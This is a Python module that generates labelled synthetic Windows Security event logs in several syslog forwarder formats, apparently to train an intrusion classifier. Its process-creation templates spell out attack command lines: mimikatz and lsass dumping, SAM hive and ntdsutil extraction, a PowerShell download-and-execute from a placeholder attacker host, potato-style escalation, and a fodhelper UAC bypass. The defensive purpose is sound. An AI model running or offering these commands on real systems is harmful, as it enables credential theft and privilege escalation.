"""Windows Security events as syslog forwarders render them.

Families, one per forwarder: ``winsec-nxlog`` (NXLog's im_msvistalog sent as
plain BSD syslog, as ``key=value`` pairs by xm_kvp, or as JSON by xm_json),
``winsec-snare`` (Snare's tab-separated ``MSWinEventLog`` records, with and
without a syslog header) and ``winsec-evtsys`` (Eventlog-to-Syslog's
``Source: EventID: message``).  One event is described once (its message
sections and the EventData field behind each line of the message) and each
forwarder renders it its own way.  :mod:`insyt.training.synth.desktop` has a shorter
``EventID=...`` text of a few events; these are the forwarders' full shapes.

Labelling decisions:

* 4625 (logon failure) from the network (logon types 3, 8, 10) and 4771 /
  4776 failures (Kerberos pre-authentication, NTLM validation with a
  non-zero error code), 4740 (account locked out): brute_force.  A 4625 of
  an interactive or unlock logon at the console (types 2 and 7, no source
  address) is a user mistyping and stays benign, as in desktop.py.
* 4624, 4634, 4647, 4672 (special privileges at an admin logon, routine on
  every admin and service logon), 4768/4769 with AES tickets, 4776 with
  error 0x0, 4720 (user created by an admin), 4732 (member added to an
  ordinary local group by an admin), 4723 (a user changing their own
  password): benign.
* 4688 process creation: benign for ordinary programs; credential_access for
  mimikatz, procdump or comsvcs MiniDump of lsass, ``reg save`` of the SAM
  or SECURITY hive, ntdsutil IFM; privilege_escalation for the potato
  family, PrintSpoofer, PsExec to SYSTEM, fodhelper/ms-settings UAC bypass.
* 1102 (the Security log was cleared): privilege_escalation.  The taxonomy
  has no defence-evasion class; clearing the log takes administrative
  rights and in practice follows an intrusion that obtained them, so it is
  filed with the abuse of those rights (HIGH severity, like the class).
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass

from insyt.training.synth.core import BENIGN, Ctx, Emitter, Line
from insyt.training.synth.product import as_kv, rescaled

# (section, label, EventData field, message value, EventData value or None for the same)
Row = tuple[str, str, str, str, str | None]


@dataclass(frozen=True, slots=True)
class Event:
    """One Security event: what its message says and which EventData carries it."""

    eid: int
    category: str
    task: str
    task_id: int
    failure: bool
    title: str
    rows: tuple[Row, ...]
    source: str = "Microsoft-Windows-Security-Auditing"


def _subject(sid: str, user: str, domain: str, logon: str) -> tuple[Row, ...]:
    return (
        ("Subject", "Security ID", "SubjectUserSid", sid, None),
        ("Subject", "Account Name", "SubjectUserName", user, None),
        ("Subject", "Account Domain", "SubjectDomainName", domain, None),
        ("Subject", "Logon ID", "SubjectLogonId", logon, None),
    )


_NULL = _subject("S-1-0-0", "-", "-", "0x0")
_SYSTEM = _subject("S-1-5-18", "{WS}$", "{DOM}", "0x3E7")
_ADMIN = _subject("{sid}", "{admin}", "{DOM}", "0x{hex:6}")
_USER = _subject("{sid}", "{user}", "{DOM}", "0x{hex:6}")


def _failed_logon(kind: str, category: str) -> Event:
    user = "{bad}" if category != BENIGN else "{user}"
    source = "{ip}" if category != BENIGN else "-"
    workstation = "{pick:-|WIN-{HEX}|kali|{WS2}|{WS2}}" if category != BENIGN else "{WS}"
    process = "-" if category != BENIGN else "C:\\Windows\\System32\\winlogon.exe"
    process_id = "0x0" if category != BENIGN else "0x{hex:3}"
    return Event(
        4625,
        category,
        "Logon",
        12544,
        True,
        "An account failed to log on.",
        (
            *(_NULL if category != BENIGN else _SYSTEM),
            ("", "Logon Type", "LogonType", kind, None),
            ("Account For Which Logon Failed", "Security ID", "TargetUserSid", "S-1-0-0", None),
            ("Account For Which Logon Failed", "Account Name", "TargetUserName", user, None),
            (
                "Account For Which Logon Failed",
                "Account Domain",
                "TargetDomainName",
                "{pick:{DOM}|WORKGROUP|.|}",
                None,
            ),
            (
                "Failure Information",
                "Failure Reason",
                "FailureReason",
                "{reason}",
                "%%{reasoncode}",
            ),
            ("Failure Information", "Status", "Status", "0xC000006D", "0xc000006d"),
            ("Failure Information", "Sub Status", "SubStatus", "{substatus}", None),
            ("Process Information", "Caller Process ID", "ProcessId", process_id, None),
            ("Process Information", "Caller Process Name", "ProcessName", process, None),
            ("Network Information", "Workstation Name", "WorkstationName", workstation, None),
            ("Network Information", "Source Network Address", "IpAddress", source, None),
            ("Network Information", "Source Port", "IpPort", "{pick:0|{port}}", None),
            (
                "Detailed Authentication Information",
                "Logon Process",
                "LogonProcessName",
                "{pick:NtLmSsp|User32|Advapi|Kerberos}",
                None,
            ),
            (
                "Detailed Authentication Information",
                "Authentication Package",
                "AuthenticationPackageName",
                "{pick:NTLM|Negotiate|Kerberos}",
                None,
            ),
        ),
    )


EVENTS: tuple[Event, ...] = (
    _failed_logon("{pick:3|3|3|10|8}", "brute_force"),
    _failed_logon("{pick:2|7}", BENIGN),
    Event(
        4771,
        "brute_force",
        "Kerberos Authentication Service",
        14339,
        True,
        "Kerberos pre-authentication failed.",
        (
            ("Account Information", "Security ID", "TargetSid", "{DOM}\\{bad}", "{sid}"),
            ("Account Information", "Account Name", "TargetUserName", "{bad}", None),
            ("Service Information", "Service Name", "ServiceName", "krbtgt/{DOM}", None),
            ("Network Information", "Client Address", "IpAddress", "::ffff:{privip}", None),
            ("Network Information", "Client Port", "IpPort", "{port}", None),
            ("Additional Information", "Ticket Options", "TicketOptions", "0x40810010", None),
            ("Additional Information", "Failure Code", "Status", "{pick:0x18|0x18|0x12}", None),
            ("Additional Information", "Pre-Authentication Type", "PreAuthType", "2", None),
        ),
    ),
    Event(
        4776,
        "brute_force",
        "Credential Validation",
        14336,
        True,
        "The computer attempted to validate the credentials for an account.",
        (
            (
                "",
                "Authentication Package",
                "PackageName",
                "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                None,
            ),
            ("", "Logon Account", "TargetUserName", "{bad}", None),
            ("", "Source Workstation", "Workstation", "{pick:WIN-{HEX}|{WS2}|kali|}", None),
            ("", "Error Code", "Status", "{pick:0xC000006A|0xC0000064|0xC0000234}", None),
        ),
    ),
    Event(
        4776,
        BENIGN,
        "Credential Validation",
        14336,
        False,
        "The computer attempted to validate the credentials for an account.",
        (
            (
                "",
                "Authentication Package",
                "PackageName",
                "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                None,
            ),
            ("", "Logon Account", "TargetUserName", "{user}", None),
            ("", "Source Workstation", "Workstation", "{WS2}", None),
            ("", "Error Code", "Status", "0x0", None),
        ),
    ),
    Event(
        4740,
        "brute_force",
        "User Account Management",
        13824,
        False,
        "A user account was locked out.",
        (
            *_subject("S-1-5-18", "{DC}$", "{DOM}", "0x3E7"),
            ("Account That Was Locked Out", "Security ID", "TargetSid", "{sid}", None),
            ("Account That Was Locked Out", "Account Name", "TargetUserName", "{bad}", None),
            (
                "Additional Information",
                "Caller Computer Name",
                "TargetDomainName",
                "{pick:{WS2}|WIN-{HEX}|}",
                None,
            ),
        ),
    ),
    Event(
        4624,
        BENIGN,
        "Logon",
        12544,
        False,
        "An account was successfully logged on.",
        (
            *_SYSTEM,
            ("Logon Information", "Logon Type", "LogonType", "{pick:2|3|3|5|7|10|11}", None),
            ("Logon Information", "Elevated Token", "ElevatedToken", "{pick:No|Yes}", "%%1843"),
            ("New Logon", "Security ID", "TargetUserSid", "{sid}", None),
            ("New Logon", "Account Name", "TargetUserName", "{user}", None),
            ("New Logon", "Account Domain", "TargetDomainName", "{DOM}", None),
            ("New Logon", "Logon ID", "TargetLogonId", "0x{hex:6}", None),
            ("Network Information", "Workstation Name", "WorkstationName", "{WS2}", None),
            (
                "Network Information",
                "Source Network Address",
                "IpAddress",
                "{pick:{privip}|{privip}|-|127.0.0.1}",
                None,
            ),
            ("Network Information", "Source Port", "IpPort", "{port}", None),
            (
                "Detailed Authentication Information",
                "Logon Process",
                "LogonProcessName",
                "{pick:User32|Kerberos|NtLmSsp|Advapi}",
                None,
            ),
            (
                "Detailed Authentication Information",
                "Authentication Package",
                "AuthenticationPackageName",
                "{pick:Negotiate|Kerberos|NTLM}",
                None,
            ),
        ),
    ),
    Event(
        4634,
        BENIGN,
        "Logoff",
        12545,
        False,
        "An account was logged off.",
        (
            ("Subject", "Security ID", "TargetUserSid", "{sid}", None),
            ("Subject", "Account Name", "TargetUserName", "{user}", None),
            ("Subject", "Account Domain", "TargetDomainName", "{DOM}", None),
            ("Subject", "Logon ID", "TargetLogonId", "0x{hex:6}", None),
            ("", "Logon Type", "LogonType", "{pick:2|3|3|10}", None),
        ),
    ),
    Event(
        4647,
        BENIGN,
        "Logoff",
        12545,
        False,
        "User initiated logoff:",
        (
            ("Subject", "Security ID", "TargetUserSid", "{sid}", None),
            ("Subject", "Account Name", "TargetUserName", "{user}", None),
            ("Subject", "Account Domain", "TargetDomainName", "{DOM}", None),
            ("Subject", "Logon ID", "TargetLogonId", "0x{hex:6}", None),
        ),
    ),
    Event(
        4672,
        BENIGN,
        "Special Logon",
        12548,
        False,
        "Special privileges assigned to new logon.",
        (
            *_subject("{sid}", "{pick:{admin}|SYSTEM|{WS}$}", "{DOM}", "0x{hex:6}"),
            (
                "",
                "Privileges",
                "PrivilegeList",
                "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege "
                "SeTakeOwnershipPrivilege SeDebugPrivilege SeSystemEnvironmentPrivilege "
                "SeLoadDriverPrivilege SeImpersonatePrivilege",
                None,
            ),
        ),
    ),
    Event(
        4768,
        BENIGN,
        "Kerberos Authentication Service",
        14339,
        False,
        "A Kerberos authentication ticket (TGT) was requested.",
        (
            ("Account Information", "Account Name", "TargetUserName", "{user}", None),
            ("Account Information", "Supplied Realm Name", "TargetDomainName", "{DOM}", None),
            ("Service Information", "Service Name", "ServiceName", "krbtgt", None),
            ("Network Information", "Client Address", "IpAddress", "::ffff:{privip}", None),
            ("Additional Information", "Ticket Options", "TicketOptions", "0x40810010", None),
            ("Additional Information", "Result Code", "Status", "0x0", None),
            (
                "Additional Information",
                "Ticket Encryption Type",
                "TicketEncryptionType",
                "0x12",
                None,
            ),
        ),
    ),
    Event(
        4720,
        BENIGN,
        "User Account Management",
        13824,
        False,
        "A user account was created.",
        (
            *_ADMIN,
            ("New Account", "Security ID", "TargetSid", "{sid2}", None),
            ("New Account", "Account Name", "TargetUserName", "{user}", None),
            ("New Account", "Account Domain", "TargetDomainName", "{DOM}", None),
            ("Attributes", "SAM Account Name", "SamAccountName", "{user}", None),
            ("Attributes", "Display Name", "DisplayName", "{display}", None),
            ("Attributes", "User Principal Name", "UserPrincipalName", "{user}@{DNSDOM}", None),
            ("Attributes", "Password Last Set", "PasswordLastSet", "<never>", "%%1794"),
            ("Attributes", "Primary Group ID", "PrimaryGroupId", "513", None),
        ),
    ),
    Event(
        4732,
        BENIGN,
        "Security Group Management",
        13826,
        False,
        "A member was added to a security-enabled local group.",
        (
            *_ADMIN,
            ("Member", "Security ID", "MemberSid", "{DOM}\\{user}", "{sid2}"),
            ("Member", "Account Name", "MemberName", "CN={display},OU=Users,{DN}", None),
            ("Group", "Security ID", "TargetSid", "BUILTIN\\{group}", "S-1-5-32-{int:555-580}"),
            ("Group", "Group Name", "TargetUserName", "{group}", None),
            ("Group", "Group Domain", "TargetDomainName", "Builtin", None),
        ),
    ),
    Event(
        4723,
        BENIGN,
        "User Account Management",
        13824,
        False,
        "An attempt was made to change an account's password.",
        (
            *_USER,
            ("Target Account", "Security ID", "TargetSid", "{sid}", None),
            ("Target Account", "Account Name", "TargetUserName", "{user}", None),
            ("Target Account", "Account Domain", "TargetDomainName", "{DOM}", None),
        ),
    ),
    Event(
        1102,
        "privilege_escalation",
        "Log clear",
        104,
        False,
        "The audit log was cleared.",
        (
            ("Subject", "Security ID", "SubjectUserSid", "{sid}", None),
            ("Subject", "Account Name", "SubjectUserName", "{pick:{admin}|Administrator}", None),
            ("Subject", "Domain Name", "SubjectDomainName", "{DOM}", None),
            ("Subject", "Logon ID", "SubjectLogonId", "0x{hex:6}", None),
        ),
        source="Microsoft-Windows-Eventlog",
    ),
)

# (category, new process, command line, parent)
PROCESSES = (
    (
        BENIGN,
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k "
        "{pick:netsvcs|LocalServiceNetworkRestricted|DcomLaunch|wusvcs} -p",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe {pick:|Install $(Arg0)}",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        BENIGN,
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"C:\\Program '
        'Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US '
        "--renderer-client-id={int:5-90}",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\msiexec.exe",
        "C:\\Windows\\system32\\msiexec.exe /V",
        "C:\\Windows\\System32\\services.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\gpupdate.exe",
        "gpupdate /force",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe "
        "-ExecutionPolicy Bypass -File C:\\Scripts\\{pick:inventory|backup|cleanup}.ps1",
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        BENIGN,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"',
        "C:\\Windows\\explorer.exe",
    ),
    (
        BENIGN,
        "C:\\Windows\\System32\\backgroundTaskHost.exe",
        '"backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
        "C:\\Windows\\System32\\svchost.exe",
    ),
    (
        "credential_access",
        "C:\\Users\\{user}\\AppData\\Local\\Temp\\{pick:mimikatz.exe|mk.exe|m64.exe}",
        '{pick:mimikatz.exe|mk.exe} "privilege::debug" "{pick:sekurlsa::'
        'logonpasswords|lsadump::sam|sekurlsa::ekeys|lsadump::dcsync /user:{DOM}\\krbtgt}" exit',
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "credential_access",
        "C:\\Tools\\procdump64.exe",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\{pick:lsass|l|debug}.dmp",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "credential_access",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Windows\\"
        "System32\\comsvcs.dll, MiniDump {int:500-1200} C:\\Windows\\Temp\\{word}.dmp full",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    ),
    (
        "credential_access",
        "C:\\Windows\\System32\\reg.exe",
        "reg save HKLM\\{pick:SAM|SECURITY} C:\\Users\\Public\\{word}.{pick:hiv|save|dat}",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "credential_access",
        "C:\\Windows\\System32\\ntdsutil.exe",
        'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{word}" q q',
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "credential_access",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://{evil}/"
        "Invoke-Mimikatz.ps1'); Invoke-Mimikatz -DumpCreds\"",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "privilege_escalation",
        "C:\\Users\\Public\\{pick:PrintSpoofer64.exe|JuicyPotato.exe|"
        "GodPotato-NET4.exe|SweetPotato.exe}",
        "{pick:PrintSpoofer64.exe -i -c cmd|JuicyPotato.exe "
        '-l 1337 -p C:\\Windows\\System32\\cmd.exe -t *|GodPotato-NET4.exe -cmd "cmd /c '
        'whoami"}',
        "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
    ),
    (
        "privilege_escalation",
        "C:\\Tools\\PsExec64.exe",
        "PsExec64.exe -accepteula -s -i cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "privilege_escalation",
        "C:\\Windows\\System32\\reg.exe",
        "reg add HKCU\\Software\\Classes"
        "\\ms-settings\\Shell\\Open\\command /d C:\\Users\\Public\\{word}.exe /f",
        "C:\\Windows\\System32\\cmd.exe",
    ),
    (
        "privilege_escalation",
        "C:\\Windows\\System32\\fodhelper.exe",
        "C:\\Windows\\System32\\fodhelper.exe",
        "C:\\Users\\Public\\{word}.exe",
    ),
    (
        "privilege_escalation",
        "C:\\Windows\\System32\\net.exe",
        "net localgroup administrators {baduser} /add",
        "{pick:C:\\Windows\\System32\\inetsrv\\w3wp.exe|C:\\Program Files\\Microsoft SQL "
        "Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe}",
    ),
)


def _process_event(category: str, process: tuple[str, str, str, str]) -> Event:
    _, image, command, parent = process
    return Event(
        4688,
        category,
        "Process Creation",
        13312,
        False,
        "A new process has been created.",
        (
            *_subject("{sid}", "{pick:{user}|{WS}$|{admin}}", "{DOM}", "0x{hex:6}"),
            ("Process Information", "New Process ID", "NewProcessId", "0x{hex:4}", None),
            ("Process Information", "New Process Name", "NewProcessName", image, None),
            (
                "Process Information",
                "Token Elevation Type",
                "TokenElevationType",
                "%%{pick:1936|1937|1938}",
                None,
            ),
            ("Process Information", "Creator Process ID", "ProcessId", "0x{hex:4}", None),
            (
                "Process Information",
                "Creator Process Name",
                "ParentProcessName",
                parent,
                None,
            ),
            ("Process Information", "Process Command Line", "CommandLine", command, None),
        ),
    )


ALL_EVENTS: tuple[Event, ...] = (
    *EVENTS,
    *(_process_event(p[0], p) for p in PROCESSES),
)
_REASONS = (
    ("Unknown user name or bad password.", "2313", "0xC000006A"),
    ("Unknown user name or bad password.", "2313", "0xC0000064"),
    ("Account locked out.", "2307", "0xC0000234"),
    ("Account currently disabled.", "2310", "0xC0000072"),
)
_GROUPS = (
    "Remote Desktop Users",
    "Event Log Readers",
    "Performance Monitor Users",
    "Distributed COM Users",
    "Users",
    "Network Configuration Operators",
)
_GUID = {
    "Microsoft-Windows-Security-Auditing": "{54849625-5478-4994-A5BA-3E3B0328C30D}",
    "Microsoft-Windows-Eventlog": "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}",
}
# Keywords of audit success and failure (0x8020... and 0x8010... as signed 64-bit integers).
_KEYWORDS = {False: -9214364837600034816, True: -9218868437227405312}


def _values(c: Ctx, memo: dict[str, str]) -> dict[str, str]:
    """What the events of one burst agree on: the host, the domain, the admin."""
    if "WS" not in memo:
        dom = c.fill("{word}").upper()[:12]
        dns = c.fill("{pick:corp|ad|lan|internal}.{domain}")
        memo.update(
            WS=c.fill("{pick:WS|PC|LT|DC|SRV|DESKTOP-}{int:1-999}").upper(),
            DC=c.fill("DC{int:1-9}"),
            DOM=dom,
            DNSDOM=dns,
            DN=",".join(f"DC={p}" for p in dns.split(".")),
            admin=c.fill("{pick:Administrator|adm-{person}|{person}.admin|{person}}"),
        )
    reason, code, sub = c.pick(_REASONS)
    sid_base = f"S-1-5-21-{c.rng.randint(10**8, 4 * 10**9)}-{c.rng.randint(10**8, 4 * 10**9)}"
    user = c.fill("{person}")
    return {
        **memo,
        "WS2": c.fill("{pick:WS|PC|LT|DESKTOP-}{int:1-999}").upper(),
        "HEX": c.fill("{hex:11}").upper(),
        "sid": f"{sid_base}-{c.rng.randint(1000, 99999)}",
        "sid2": f"{sid_base}-{c.rng.randint(1000, 99999)}",
        "user": user,
        "bad": c.fill("{baduser}"),
        "display": user.replace(".", " ").replace("_", " ").title(),
        "group": c.pick(_GROUPS),
        "reason": reason,
        "reasoncode": code,
        "substatus": sub,
    }


@dataclass(frozen=True, slots=True)
class Filled:
    """An event with its values drawn: the rows as (section, label, field, text, data)."""

    event: Event
    rows: tuple[tuple[str, str, str, str, str], ...]


def _fill(c: Ctx, memo: dict[str, str], event: Event) -> Filled:
    values = _values(c, memo)
    rows = []
    for section, label, field, text, data in event.rows:
        shown = c.fill(text, memo, **values)
        rows.append(
            (section, label, field, shown, shown if data is None else c.fill(data, memo, **values))
        )
    return Filled(event, tuple(rows))


def message(f: Filled, crlf: bool) -> str:
    """The rendered message: Windows' CRLF and tab layout, or one line as forwarders flatten it."""
    if crlf:
        parts, section = [f.event.title, ""], None
        for sec, label, _, text, _ in f.rows:
            if sec != section:
                if section is not None:
                    parts.append("")
                if sec:
                    parts.append(f"{sec}:")
                section = sec
            indent = "\t" if sec else ""
            parts.append(f"{indent}{label}:\t\t{text}")
        return "\r\n".join(parts)
    out, section = [f.event.title], None
    for sec, label, _, text, _ in f.rows:
        if sec != section and sec:
            out.append(f"{sec}:")
        section = sec
        out.append(f"{label}: {text}")
    return "  ".join(out)


def _flat(c: Ctx, f: Filled) -> str:
    text = message(f, crlf=False)
    return text.replace("  ", c.pick(("  ", " ", "\t", "   ")))


def _header(c: Ctx, memo: dict[str, str], f: Filled) -> list[tuple[str, object]]:
    """NXLog's im_msvistalog fields before the event's own data."""
    e = f.event
    host = f"{memo['WS']}.{memo['DNSDOM']}" if c.chance(0.7) else memo["WS"]
    return [
        ("EventTime", f"{c.when:%Y-%m-%d %H:%M:%S}"),
        ("Hostname", host),
        ("Keywords", _KEYWORDS[e.failure]),
        ("EventType", "AUDIT_FAILURE" if e.failure else "AUDIT_SUCCESS"),
        ("SeverityValue", 4 if e.failure else 2),
        ("Severity", "ERROR" if e.failure else "INFO"),
        ("EventID", e.eid),
        ("SourceName", e.source),
        ("ProviderGuid", _GUID[e.source]),
        ("Version", c.pick((0, 0, 1, 2))),
        ("Task", e.task_id),
        ("OpcodeValue", 0),
        ("RecordNumber", c.rng.randint(10**4, 10**9)),
        ("ProcessID", c.pick((4, 640, 648, 708, 776, 1012))),
        ("ThreadID", c.rng.randint(100, 20000)),
        ("Channel", "Security"),
    ]


# im_msvistalog fields that NXLog configurations commonly delete before sending.
_NXLOG_TRIMMED = frozenset(
    {"Keywords", "ProviderGuid", "Version", "Task", "OpcodeValue", "RecordNumber", "ThreadID"}
)


def _nxlog(c: Ctx, memo: dict[str, str], f: Filled) -> tuple[str, str, str | None, bool]:
    """(app, message, pid, raw) of one NXLog rendering.

    Process creation goes as the plain message only: in the JSON and key=value
    shapes its command line sits in the middle of a long record, out of the
    classifier's view (head and tail tokens), so those lines would teach noise.
    """
    e, r = f.event, c.rng.random()
    pid = str(c.pick((640, 648, 708, 776)))
    if r < 0.35 or e.eid == 4688:  # to_syslog_bsd of $Message: the tag is the source
        return e.source, _flat(c, f), pid, False
    head = _header(c, memo, f)
    if c.chance(0.6):
        head = [(k, v) for k, v in head if k not in _NXLOG_TRIMMED]
    data = [(field, value) for _, _, field, _, value in f.rows]
    module = [
        ("EventReceivedTime", f"{c.when:%Y-%m-%d %H:%M:%S}"),
        ("SourceModuleName", c.pick(("eventlog", "in_eventlog", "winsec"))),
        ("SourceModuleType", "im_msvistalog"),
    ]
    tail: list[tuple[str, object]] = [
        ("Category", e.task),
        ("Opcode", "Info"),
        *data,
        *(module if c.chance(0.5) else []),
    ]
    if r < 0.7:
        fields = [*head, ("Message", message(f, crlf=True)), *tail]
        text = json.dumps(dict(fields), separators=(",", ":"), ensure_ascii=False)
        return c.pick((e.source, "nxlog", "NXLog")), text, None, c.chance(0.3)
    with_message = [("Message", _flat(c, f))] if c.chance(0.5) else []
    text = as_kv(c, [*head, *with_message, *tail], quote=None)
    return c.pick((e.source, "nxlog", "MSWinEventLog")), text, pid, False


def _snare(c: Ctx, memo: dict[str, str], f: Filled) -> tuple[str, str, str | None, bool]:
    e = f.event
    user = next((v for _, _, field, v, _ in f.rows if field == "TargetUserName"), "N/A")
    fields = [
        str(c.pick((0, 1, 1, 2, 3))),
        "Security",
        str(c.rng.randint(1, 10**7)),
        f"{c.when:%a %b %d %H:%M:%S %Y}",
        str(e.eid),
        e.source,
        f"{memo['DOM']}\\{user}" if user not in ("N/A", "-", "") and c.chance(0.4) else "N/A",
        c.pick(("N/A", "User", "Well Known Group")),
        "Failure Audit" if e.failure else "Success Audit",
        f"{memo['WS']}.{memo['DNSDOM']}",
        e.task,
        "",
        message(f, crlf=False).replace("\t", " "),
        str(c.rng.randint(1, 10**6)),
    ]
    body = "\t".join(fields)
    if c.chance(0.4):  # Snare's own format, read from a file or sent without a syslog header
        return "MSWinEventLog", f"{memo['WS']}\tMSWinEventLog\t{body}", None, True
    return "MSWinEventLog", body, None, False


def _evtsys(c: Ctx, memo: dict[str, str], f: Filled) -> tuple[str, str, str | None, bool]:
    e = f.event
    source = e.source.removeprefix("Microsoft-Windows-")
    app = c.pick((source, source, "Security", e.source))
    kind = c.pick(("", "", "AUDIT_FAILURE " if e.failure else "AUDIT_SUCCESS "))
    return app, f"{e.eid}: {kind}{_flat(c, f)}", None, False


RENDERERS = {"winsec-nxlog": _nxlog, "winsec-snare": _snare, "winsec-evtsys": _evtsys}


def _emitter(family: str, category: str, events: Sequence[Event], weight: float) -> Emitter:
    render = RENDERERS[family]
    kind = "benign" if category == BENIGN else "attack"
    suffix = "" if category == BENIGN else f"-{category.replace('_', '-')}"
    scenario = f"{kind}:{family}{suffix}"

    def emit(c: Ctx) -> list[Line]:
        memo: dict[str, str] = {}
        out = []
        for _ in range(c.rng.randint(1, 4 if category == "brute_force" else 2)):
            c.tick()
            app, text, pid, raw = render(c, memo, _fill(c, memo, c.pick(events)))
            out.append(Line(family, category, scenario, app, text, c.when, pid, raw))
        return out

    return Emitter(f"{family}:{scenario}", category, weight, emit)


# Weight of one family's emitter of each category.
WEIGHTS = {
    "brute_force": 0.5,
    "credential_access": 0.3,
    "privilege_escalation": 0.25,
    BENIGN: 0.8,
}

EMITTERS: tuple[Emitter, ...] = rescaled(
    tuple(
        _emitter(family, category, [e for e in ALL_EVENTS if e.category == category], weight)
        for family in RENDERERS
        for category, weight in WEIGHTS.items()
    )
)
